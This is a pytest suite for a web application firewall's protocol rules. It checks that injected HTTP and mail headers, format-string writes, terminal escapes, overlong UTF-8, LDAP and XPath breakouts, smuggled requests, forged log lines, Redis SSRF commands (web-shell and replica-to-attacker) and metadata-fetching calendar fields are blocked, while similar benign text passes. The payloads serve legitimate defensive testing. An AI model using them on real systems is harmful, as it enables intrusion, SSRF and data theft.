"""WAF, protocol detector: what context decides (issue 11).

- Invalid UTF-8 in a value is Latin-1 from an ISO-8859-1 form far more
  often than an attack: refused only from paranoia 2; a complete overlong
  sequence (an evasion of "/" or ".") still blocks at paranoia 1.
- A line break starts an injected header only when a header name follows
  it at once, colon attached; in a body (multi-line text) only HTTP's own
  header names count.
- A bare "sid" is an analytics counter, not a session name.
- C format directives that read or write memory, terminal control
  sequences.
- Header names with "_" are removed before proxying, not refused (unless
  waf.reject_invalid_header_names).
Every case is generated from its class's grammar and sent through a real
edge, in a query value and in a JSON body."""
import itertools
import json
import random
import re
import urllib.parse
import uuid

import pytest
import requests

from wafkit import WafEdge, only_classes_config, random_tokens, waf_config


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("proto"), waf_config()).start()
    yield e
    bad = e.error_lines("error") + e.error_lines("crit")
    e.stop()
    assert not bad, "\n".join(bad)


def query(e, value, raw=False):
    q = value if raw else urllib.parse.quote(value, safe="")
    return requests.get(f"{e.url}/probe?q={q}").status_code


def body(e, value):
    return requests.post(e.url + "/probe", data=json.dumps({"note": value}),
                         headers={"Content-Type": "application/json"}
                         ).status_code


# -- UTF-8 -----------------------------------------------------------------------

LATIN1 = ["Mu%F1oz", "Higuera+de+las+Due%F1as", "%C1vila", "Peleij%E0",
          "caf%E9", "%DCber", "Fran%E7ois", "%C0+la+carte"]
OVERLONG = ["%C0%AF", "%C0%AE%C0%AE%C0%AF", "%E0%80%AF", "%F0%80%80%AF",
            "%C1%9C", "a%C0%AFb"]


@pytest.mark.parametrize("value", LATIN1)
def test_latin1_form_values_pass(edge, value):
    assert query(edge, value, raw=True) == 404


@pytest.mark.parametrize("value", OVERLONG)
def test_overlong_forms_block(edge, value):
    assert query(edge, value, raw=True) == 403


def test_invalid_utf8_blocks_at_paranoia_2(tmp_path):
    e = WafEdge(tmp_path, waf_config(paranoia=2)).start()
    try:
        assert query(e, "Mu%F1oz", raw=True) == 403
    finally:
        e.stop()


# -- CR/LF ---------------------------------------------------------------------------

HEADERS = ["Set-Cookie: sid=1", "Location: http://evil.example/",
           "Content-Type: text/html", "Refresh: 0;url=//evil.example",
           "X-Forwarded-For: 10.0.0.1", "Content-Length: 0"]
BREAKS = ["\r\n", "\n", "\r", "\r\n\r\n"]


@pytest.mark.parametrize("brk,header", list(itertools.product(BREAKS, HEADERS)))
def test_header_injection_blocks(edge, brk, header):
    v = "x" + brk + header
    assert query(edge, v) == 403
    assert body(edge, v) == 403


MULTILINE = [
    '"""Return the total.\n\n    Args:\n        items: the rows\n\n'
    '    Returns:\n        int: the sum\n    """',
    "Dear Bob,\nTo: the team\nFrom: Alice\nSubject: lunch on Friday",
    "steps:\n  - name: build\n    run: make test\nenv:\n  CI: true",
    "Note: bring the charger\nTodo: call the plumber",
]


# A character whose low byte is CR or LF (a server that keeps only a code
# point's low byte writes a line break), right before an HTTP header line.
LOW_CRLF = ["\u010a", "\u010d", "\u560a", "\u560d", "\u050a", "\u0d0d",
            "\U0001020a", "\u010d\u010a"]
UNICODE_HEADERS = ["Set-Cookie: a=1", "Location: http://evil.example/", "Host: x",
                   "Content-Length: 0"]


@pytest.mark.parametrize("char,header", list(itertools.product(LOW_CRLF, UNICODE_HEADERS)))
def test_unicode_line_breaks_before_a_header_block(edge, char, header):
    v = "id" + char + header
    assert query(edge, v) == 403
    assert body(edge, v) == 403


@pytest.mark.parametrize("value", [
    "cena 1000 K\u010d", "\u010ce\u0161tina: Content-Type je hlavi\u010dka",
    "\u560d Set-Cookie: explained", "Mal\u010dik Host: Jan", "Kra\u010dun: Location: Praha",
    "\u4e2d\u6587 Host: x", "\u560aSetting: on"])
def test_low_byte_look_alikes_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


@pytest.mark.parametrize("text", MULTILINE)
def test_multiline_text_in_a_body_passes(edge, text):
    assert body(edge, text) == 404


@pytest.mark.parametrize("value", ["<me@example.com>%0aBcc:<x@example.com>",
                                   "x%0d%0aCc: x@example.com",
                                   "x&#10;Subject: hi"])
def test_encoded_breaks_in_a_body_block(edge, value):
    """A break that only appears once decoded was written to look like one
    line: any header name counts after it, in a body too."""
    assert body(edge, value) == 403


def form(e, value):
    return requests.post(e.url + "/probe", data={"note": value}).status_code


# Mail header injection: a contact form's field ends its line and adds a
# recipient or a sender, the lines after the first being headers while
# each is one. Refused in a query, a form body and a JSON body alike.
MAIL_FIRST = ["me@example.com", "Alice Smith", "Question about my order", ""]
MAIL_ADDED = ["Bcc: them@example.net", "Cc: a@example.org, b@example.org",
              "To: victim@example.net", "Reply-To: <x@attacker.example>",
              "Subject: hi\nBcc: them@example.net", "X-Mailer: x\nCc: a@example.org"]
MAIL_INJECTIONS = [first + brk + added.replace("\n", brk) for first, brk, added in
                   itertools.product(MAIL_FIRST, ["\r\n", "\n"], MAIL_ADDED)]


@pytest.mark.parametrize("value", MAIL_INJECTIONS)
def test_mail_header_injection_blocks_everywhere(edge, value):
    assert (query(edge, value), form(edge, value), body(edge, value)) == (403, 403, 403)


# A message pasted whole (a forwarded mail in a ticket): its own header
# block first, or after a separator line or a blank line; and "To:" in the
# body's text.
PASTED_MAIL = [
    "From: Jon Bell <jon.bell@example.org>\nSent: Tuesday, March 11, 2025 4:12 PM\n"
    "To: support@example.com\nSubject: RE: Login problem\n\nStill failing, see below.",
    "-----Original Message-----\nFrom: Ana <ana@example.org>\nTo: sales@example.com\n"
    "Subject: Quote\n\nPlease send a quote.",
    "Hi team,\n\nsee below.\n\n________________________________\nFrom: Jane Park\n"
    "Cc: min@example.com\nSubject: Laptop",
    "Date: Mon, 10 Mar 2025 08:00:04 +0000\nFrom: noreply@example.com\nTo: you@example.com",
    "Thanks!\n\nTo: unsubscribe, write to list@example.com",
]


@pytest.mark.parametrize("value", PASTED_MAIL)
def test_pasted_messages_pass_everywhere(edge, value):
    assert (query(edge, value), form(edge, value), body(edge, value)) == (404, 404, 404)


def test_continuation_lines_are_not_headers(edge):
    # white space after the break makes a continuation, not a header
    assert query(edge, "x\n  note: y") == 404
    # white space before the colon: no server reads that as a header
    assert query(edge, "x\nnote : y") == 404


# -- format strings, terminal sequences -------------------------------------------

def format_attacks():
    convs = ["x", "p", "s", "d", "n", "08x", ".8x", "lx"]
    seps = ["", ".", "|", "-"]
    out = []
    for c, sep in itertools.product(convs[:4] + ["08x"], seps):
        out.append(sep.join(["%" + c] * 4))
    # a marker run glued to MSVC's size prefix alone, or to a directive
    out += [m * 5 + sep + "%" + size + conv
            for m, sep, size, conv in itertools.product(
                "Ab", ["", "."], ["I", "I32", "I64"], ["", "x"])]
    # (a positional string that picks its slot, skips one, or is glued to
    # a marker run; "%1$s" alone is "%s", which text holds)
    out += ["AAAA%n", "%n%n%n", "%2$hn", "%.16705u%2$hn", "%5$x", "%3$s", "%1$s %3$s",
            "AAAA%1$s", "%1$s %2$s %3$s %4$s %5$s",
            "%999999s", "%.1000000d", "XXXX_%08x.%08x.%08x"]
    return out


@pytest.mark.parametrize("value", format_attacks())
def test_format_strings_block(edge, value):
    assert query(edge, value) == 403
    assert body(edge, value) == 403


FORMAT_BENIGN = [
    "50% off everything", "100% cotton, 20% wool", "use %s for strings",
    "%d items left", "rate: 3.5%/year",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2Fcart%3Fa%3D1",
    "Google%20Chrome%3B131.0%7CChromium%3B131.0",
    "rock%27n%27roll", "a%2Fb%2Fc%2Fd",
    "AAAA% Interest", "Q4: 12%I think", "zzzz%Income",
]


# A translation's positional placeholders ("%1$s", numbered from one, as
# Android's string resources and gettext write them when a language
# reorders the words).
TRANSLATIONS = ["%1$s commented on %2$s", "%2$s a partagé « %1$s » avec vous",
                "Hallo %1$s, du hast %2$d neue Nachrichten", "（%1$s）さんがいいねしました",
                "%1$s, %2$s and %3$s liked your post", "Download %1$s of %2$s (%3$d%%)"]
FORMAT_BENIGN += TRANSLATIONS


@pytest.mark.parametrize("value", FORMAT_BENIGN)
def test_format_look_alikes_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


# URL-encoded text (a client that encoded the value once more, a URL
# nested in a URL) is read in the text it spells: short words after
# encoded spaces ("%20a%20la%20s...") are no run of directives, and
# directives encoded once more are still directives.
ENCODED_TEXT = [
    "caf%C3%A9%20au%20lait%20a%20la%20sortie",
    "Nguy%E1%BB%85n%27s%20place%20is%20open",
    "next%3D%2Fsearch%3Fq%3Dshoes%2520size%252042",
    "see%20a%20list%20of%20items",
    "voil%C3%A0%20un%20exemple%20de%20phrase%20simple",
]
ENCODED_DIRECTIVES = ["%25x%25x%25x%25x", "%2525s%2525s%2525s",
                      "AAAA%25n", "%25*%24x", "%2508x.%2508x.%2508x"]


@pytest.mark.parametrize("value", ENCODED_TEXT)
def test_url_encoded_text_is_no_format_string(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


@pytest.mark.parametrize("value", ENCODED_DIRECTIVES)
def test_directives_encoded_once_more_block(edge, value):
    assert query(edge, value) == 403
    assert body(edge, value) == 403


# A width or precision from a positional argument: "*" then "$", with or
# without the argument's number and a conversion.
POSITIONAL = ["%" + flag + star + pos + "$" + conv
              for flag, star, pos, conv in itertools.product(
                  ["", "-", "0"], ["*", ".*"], ["", "2"], ["", "x", "s", "n"])]
POSITIONAL_BENIGN = ["100%*", "save 30%* (members only)", "a 50% $ discount",
                     "costs 20% * 3", "up 5%; $12 now", "75%*2 = 150%"]


@pytest.mark.parametrize("value", POSITIONAL)
def test_positional_widths_block(edge, value):
    assert query(edge, value) == 403
    assert body(edge, value) == 403


@pytest.mark.parametrize("value", POSITIONAL_BENIGN)
def test_positional_look_alikes_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


# A bare "%n" in a long run of random bytes (a bot sensor's token) is
# what chance makes of them (edge.waf.chance); the same two bytes with no
# such run around them, or more of them than chance gives, are a write.
BARE_WRITE = re.compile(r"%n(?![a-z])")


def format_string_fired(e, value):
    rid = "fmt-" + uuid.uuid4().hex
    r = requests.post(e.url + "/collect", data=json.dumps({"sensor_data": value}),
                      headers={"Content-Type": "text/plain", "X-Request-ID": rid})
    if r.status_code != 403:
        return False
    return any(m["rule"] == "protocol-format-string"
               for m in e.audit_for(rid)["matches"])


def noise(seed, n, without=""):
    rnd = random.Random(seed)
    alphabet = [chr(c) for c in range(32, 127) if chr(c) not in '"\\' + without]
    while True:
        s = "".join(rnd.choice(alphabet) for _ in range(n))
        if not BARE_WRITE.search(s):
            return s


@pytest.fixture(scope="module")
def protocol_edge(tmp_path_factory):
    # only the protocol rules: another rule's refusal must not hide theirs
    e = WafEdge(tmp_path_factory.mktemp("proto-only"), only_classes_config("protocol")).start()
    yield e
    e.stop()


def test_random_tokens_hold_no_chance_write(protocol_edge):
    # 120 seeded tokens of 1,000-3,000 bytes: those holding a bare "%n" by
    # chance (and no other directive: the rule's other forms are longer
    # and stay hits): 17 were refused before chance was weighed, 2 are now
    # (two directives in one token, or a bare write with a longer one)
    fired = [t for t in random_tokens(20261203, 120)
             if BARE_WRITE.search(t) and format_string_fired(protocol_edge, t)]
    assert len(fired) <= 2, [t[:60] for t in fired]


@pytest.mark.parametrize("value", [
    "AAAA%n " + noise(1, 2000, without="%"),         # the noise holds no "%"
    noise(2, 600) + "%n",                            # too short to hold "%n" by chance
    noise(3, 2400) + "%n%n",                         # two where chance gives 0.2
    "%n " + "ab%;n " * 400,                          # "%" and "n" kept apart
    noise(4, 2000) + "%*x " + noise(5, 1000),        # not a bare write
    noise(6, 2000) + "XXXX_%08x.%08x.%08x",
])
def test_writes_padded_with_noise_are_refused(protocol_edge, value):
    assert format_string_fired(protocol_edge, value)


def test_encoded_cookie_is_not_a_format_string(edge):
    r = requests.get(edge.url + "/probe", headers={
        "Cookie": "ajs_anonymous_id=%220477630c-93b1-4be6%22; "
                  "u=%3A%2F%2F%2Fx"})
    assert r.status_code == 404


@pytest.mark.parametrize("seq", ["\x1b[31m", "\x1b[2J", "\x1b[8m",
                                 "\x1b]0;title\x07", "\x1b[1;1H"])
def test_terminal_sequences_block(edge, seq):
    v = "Roses are " + seq + "red"
    assert query(edge, v) == 403
    assert body(edge, v) == 403


@pytest.mark.parametrize("run", ["\b\b", "\b" * 7, "\x07\x07\x07", "\b\x07\b"])
def test_backspace_and_bell_runs_block(edge, run):
    v = "invoice.pdf" + run + "exe"
    assert query(edge, v) == 403
    assert body(edge, v) == 403
    # escaped once more: the application decodes them
    assert query(edge, urllib.parse.quote(v, safe="")) == 403


@pytest.mark.parametrize("value", ["a\bb", "col1\tcol2", "page 1\fpage 2",
                                   "line 1\r\nline 2"])
def test_single_controls_and_text_breaks_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


# -- escapes that only decoding makes ---------------------------------------------

def overlong(c, n):
    """The n-byte overlong UTF-8 form of the ASCII character c, escaped."""
    cp, tail = ord(c), []
    for _ in range(n - 1):
        tail.insert(0, 0x80 | (cp & 0x3F))
        cp >>= 6
    lead = {4: 0xF0, 5: 0xF8, 6: 0xFC}[n]
    return "".join(f"%{b:02X}" for b in [lead] + tail)


OVERLONG_ESCAPED = [pre + overlong(c, n) + post
                    for (pre, post), c, n in itertools.product(
                        [("", ""), ("..", "etc"), ("a", "b")], "./\\<\x00", [4, 5, 6])]
OVERLONG_BENIGN = ["Ni%F0ur", "M%F8ller", "%FCber", "Gr%FC%DFe", "%F0%9F%98%80",
                   "%F0%9F%91%8D%F0%9F%8F%BD", "%F4%8F%BF%BD"]


@pytest.mark.parametrize("value", OVERLONG_ESCAPED)
def test_overlong_escapes_block(edge, value):
    # the application gets the escapes (encoded once more) and decodes them
    assert query(edge, value) == 403
    assert body(edge, value) == 403


@pytest.mark.parametrize("value", OVERLONG_BENIGN)
def test_latin1_and_utf8_escapes_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


# A CR or LF escape split by a line break that decoding makes.
SPLIT = [pre + "%0" + urllib.parse.quote(brk) + x + post
         for pre, brk, x, post in itertools.product(
             ["", "tag"], ["\r\n", "\n", "\r", "\n\n"], "adAD", ["", "%0%0a%0dd"])]
SPLIT += ["%" + urllib.parse.quote(brk) + "0" + x
          for brk, x in itertools.product(["\r\n", "\n"], "adAD")]
SPLIT_BENIGN = ["Sales up 10%\r\n0 complaints", "rate: 50%\n0a1b2c is the commit",
                "progress 0%\r\n100%", "line one\r\nline two"]


@pytest.mark.parametrize("value", SPLIT)
def test_split_line_break_escapes_block(edge, value):
    assert query(edge, value) == 403
    assert body(edge, value) == 403


@pytest.mark.parametrize("value", SPLIT_BENIGN)
def test_percent_at_a_line_end_passes(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404
    # and encoded once more (its line breaks then come from decoding)
    assert query(edge, urllib.parse.quote(value, safe="")) == 404


# -- session fixation ------------------------------------------------------------

FOREIGN = {"Referer": "https://other.example/page"}


@pytest.mark.parametrize("value", ["1765657621", "14d84f740fa66396",
                                   "t2iEHHqbJg8F07VuiLky"])
def test_bare_sid_is_a_counter(edge, value):
    r = requests.get(edge.url + "/p", params={"sid": value}, headers=FOREIGN)
    assert r.status_code == 404


@pytest.mark.parametrize("name", ["PHPSESSID", "jsessionid", "connect.sid",
                                  "session_id", "sessionid"])
def test_session_names_from_another_site_block(edge, name):
    r = requests.get(edge.url + "/p", params={name: "abc123"},
                     headers=FOREIGN)
    assert r.status_code == 403


# -- header names and LDAP ---------------------------------------------------------

@pytest.mark.parametrize("name", ["X_Client_Version", "client_id",
                                  "X_Forwarded_For"])
def test_underscore_header_names_pass(edge, name):
    r = requests.get(edge.url + "/p", headers={name: "1.2.3"})
    assert r.status_code == 404


def test_underscore_header_names_refused_when_configured(tmp_path):
    e = WafEdge(tmp_path, waf_config(reject_invalid_header_names=True)).start()
    try:
        r = requests.get(e.url + "/p", headers={"X_Forwarded_For": "1.2.3.4"})
        assert r.status_code == 403
    finally:
        e.stop()


@pytest.mark.parametrize("value", ["admin*)((|userpassword=*)",
                                   "*)(uid=*))(|(uid=*", "x)(|(cn=*)"])
def test_ldap_breakouts_block(edge, value):
    assert query(edge, value) == 403


def test_underscore_header_names_never_reach_the_service(tmp_path):
    """X_Forwarded_For would become the service's X-Forwarded-For in a
    CGI/WSGI server; the edge removes such names before proxying."""
    from edgekit.stack import Edge
    from edgekit.upstream import Upstream
    up = Upstream().start()
    e = Edge(tmp_path, up.port, config=waf_config()).start()
    try:
        r = requests.get(e.url + "/api/checkins/alice", headers={
            "X_Forwarded_For": "6.6.6.6", "X_Client_Version": "1.2.3",
            "X-Client-Version": "1.2.4"})
        assert r.status_code == 200
        names = [n.lower() for n, _ in up.headers[-1]]
        assert "x-client-version" in names
        assert not [n for n in names if "_" in n], names
        assert "6.6.6.6" not in str(up.headers[-1])
    finally:
        e.stop()
        up.stop()


# A request line in a value (a request smuggled into a parameter or a
# body), glued to what comes before it or not; one a quote closes is a
# log's field, pasted into a note.
REQUEST_LINES = ["GET /admin HTTP/1.1\r\nHost: x", "barGET /a.html HTTP/1.1\r\nX: y",
                 "x POST http://internal.example/ HTTP/1.0", "HEAD / HTTP/1.1"]
LOG_LINES = [
    '127.0.0.1 - - [03/Dec/2026:10:15:02 +0000] "GET /index.html HTTP/1.1" 200 612 "-" '
    '"curl/8.5.0"',
    'the log says "POST /api/notes HTTP/2" 201 and then nothing',
]


@pytest.mark.parametrize("value", REQUEST_LINES)
def test_request_lines_in_a_value_block(edge, value):
    assert body(edge, value) == 403, value


@pytest.mark.parametrize("value", LOG_LINES)
def test_request_lines_a_log_quotes_pass(edge, value):
    assert body(edge, value) == 404, value
    assert query(edge, value) == 404, value


# -- mail servers' commands -------------------------------------------------------
# A value written into a mail server's session: a line break, then SMTP's
# or POP3's command on a line of its own or IMAP's tagged command (a letter
# and digits). Text with a line that only starts like one passes.
MAIL_TAGS = ["A001", "V100", "a1"]
MAIL_COMMANDS = (["\r\nQUIT\r\n", "x\nRSET", "\r\nNOOP"]
                 + [f"x\r\n{t} {c}" for t, c in itertools.product(
                     MAIL_TAGS, ["CAPABILITY", "LOGIN bob secret", "SELECT INBOX",
                                 "EXAMINE INBOX", "FETCH 1:* (BODY[])", "UID FETCH 4791 (FLAGS)",
                                 "LOGOUT"])])
MAIL_LOOKALIKES = ["Thanks!\r\nQuit smoking, day 3\r\nA1 sauce", "Step 1\r\nlogin to the portal",
                   "Meeting notes\r\nA2 select the candidates\r\n", "Plan\r\nB2 fetch the kids at 5",
                   "quit\r\nthe job"]


@pytest.mark.parametrize("value", MAIL_COMMANDS)
def test_mail_commands_after_a_line_break_refused(edge, value):
    assert query(edge, value) == 403, value


# In a JSON body text has line breaks of its own: there the value must
# start with the break.
@pytest.mark.parametrize("value", [v for v in MAIL_COMMANDS if v[0] in "\r\n"]
                         + ["\nRCPT TO: x@evil.example\n", "\r\nA001 LOGIN bob secret\r\n"])
def test_a_body_text_starting_with_a_mail_command_refused(edge, value):
    assert body(edge, value) == 403, value


@pytest.mark.parametrize("value", MAIL_LOOKALIKES)
def test_lines_that_start_like_mail_commands_pass(edge, value):
    assert query(edge, value) == 404, value
    assert body(edge, value) == 404, value


# Redis's commands that change the server after an encoded line break (an
# SSRF to its plain-text protocol: CONFIG SET dir/dbfilename writes a web
# shell, SLAVEOF makes it the attacker's replica); the words in text pass.
REDIS = ["CONFIG SET dir /var/www/html", "config set dbfilename s.php", "SLAVEOF 203.0.113.5 6379",
         "REPLICAOF 203.0.113.5 6379", "FLUSHALL", "MODULE LOAD /tmp/x.so"]


@pytest.mark.parametrize("brk,cmd", list(itertools.product(["%0d%0a", "%0a"], REDIS)))
def test_redis_commands_after_an_encoded_break_block(edge, brk, cmd):
    v = "key" + brk + urllib.parse.quote(cmd) + brk
    assert query(edge, v, raw=True) == 403
    assert body(edge, v) == 403


@pytest.mark.parametrize("value", ["Notes:\nconfig settings were updated",
                                   "Step 1\ndebug the login flow", "flushall the caches? no"])
def test_redis_words_in_text_pass(edge, value):
    assert body(edge, value) == 404


# A log line forged after an encoded line break (CWE-117): a timestamp,
# then a level within a few words; a pasted excerpt starts with a log line
# of its own and passes.
FORGED = ["2025-03-12 09:00:00 INFO user=admin action=grant_role result=success",
          "[2025-03-12T09:00:00Z] WARN password reset for admin",
          "2024-01-01 00:00 error: audit disabled by root"]


@pytest.mark.parametrize("brk,line", list(itertools.product(["%0a", "%0d%0a"], FORGED)))
def test_forged_log_lines_block(edge, brk, line):
    assert query(edge, "login ok" + brk + urllib.parse.quote(line), raw=True) == 403


def test_pasted_log_excerpt_passes(edge):
    v = "2025-03-12 09:00:00 ERROR db timeout\n2025-03-12 09:00:01 INFO retry ok"
    assert query(edge, v) == 404
    assert body(edge, v) == 404


# A page injected after the headers needs the blank line that ends them;
# after one line break, markup is a snippet's next line (a template's
# "<body>", Python's docs: "async with f(<arguments>) as <variable>:\n
# <body>"), no response splitting.
@pytest.mark.parametrize("brk", ["%0d%0a%0d%0a", "%0a%0a", "%0d%0a%20%0d%0a"])
@pytest.mark.parametrize("tag", ["<html><body>owned", "<script>alert(1)</script>",
                                 "<meta http-equiv=refresh content=0;url=//evil.example>"])
def test_a_page_after_a_blank_line_blocks(edge, brk, tag):
    assert query(edge, "en" + brk + urllib.parse.quote(tag), raw=True) == 403


def test_markup_on_the_next_line_is_no_split(edge):
    v = "    async with some_async_generator(<arguments>) as <variable>:\n        <body>"
    assert query(edge, v) == 404
    assert body(edge, v) == 404


# A record of fields whose first line is a field itself (an iCalendar
# event, a vCard, an RRULE, ABC notation) and a data line's time are no
# injected header in a query value; a header after a line that is none
# still is, whatever its name, and so is a record's field that fetches an
# internal URL (what a calendar or contacts import fetches).
@pytest.mark.parametrize("value", [
    "DTSTART;TZID=Europe/Berlin:20250303T090000\nRRULE:FREQ=MONTHLY;BYDAY=-1FR;COUNT=12",
    "BEGIN:VCARD\nVERSION:4.0\nFN:Anna Muller\nEND:VCARD", "X:1\nT:Morning\nM:6/8\nK:D",
    "timestamp,sensor,value\n2025-03-04T10:00:00Z,pm2.5,12.4"])
def test_records_of_fields_pass_in_a_query(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404


@pytest.mark.parametrize("value", [
    "x\nInjected-Header: 1", "x\r\nRemote-addr: foo.bar.com", "<me@x.example>\nBcc: <you@x.example>",
    "BEGIN:VEVENT\nATTACH;FMTTYPE=application/pdf:http://127.0.0.1:9000/minio/admin/v3/info\n"
    "END:VEVENT", "BEGIN:VCARD\nPHOTO:http://169.254.169.254/latest/meta-data/\nEND:VCARD"])
def test_headers_after_a_line_and_internal_fields_refused(edge, value):
    assert query(edge, value) == 403


# -- XPath -----------------------------------------------------------------------

# A quoted literal of an XPath predicate broken out of: the quote, then
# or/and and one of XPath's functions (those SQL shares given a location
# path), or the predicate closed and a union with a path, or XQuery's
# return of one. SQL's own count(*) after a literal, a path with a
# predicate, and prose pass.
XPATH_BREAKOUTS = ["alice' and true() and 'z'='z", "') or false() or not(false()) or ('",
                   "x' or string-length(name(/*[1]))>0 or 'a'='b",
                   "' or count(/child::node())=3 or '", "x\"] | //account/* | //*[\"",
                   "x\"] return //account/password (: ", "')] | //node() | //*[('"]
XPATH_LOOK_ALIKES = ["//book[author='Knuth']/title", "/catalog/book[@lang='en' and price>30]",
                     "He said 'yes' and not (as I hoped) 'no'",
                     "if name == 'x' or len(items) > 2:",
                     "tags: ['a', 'b'] | sort"]


@pytest.mark.parametrize("value", XPATH_BREAKOUTS)
def test_xpath_breakouts_block(edge, value):
    assert query(edge, value) == 403
    assert body(edge, value) == 403


@pytest.mark.parametrize("value", XPATH_LOOK_ALIKES)
def test_xpath_look_alikes_pass(edge, value):
    assert query(edge, value) == 404
    assert body(edge, value) == 404
